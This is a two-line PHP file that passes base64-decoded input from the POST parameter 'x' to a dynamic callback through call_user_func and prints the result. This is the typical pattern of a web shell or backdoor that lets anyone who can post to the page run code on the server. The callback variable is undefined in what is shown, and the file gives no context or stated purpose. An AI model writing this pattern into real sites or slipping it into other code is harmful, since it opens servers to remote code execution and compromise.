<?php
echo call_user_func($cb, base64_decode($_POST["x"]));
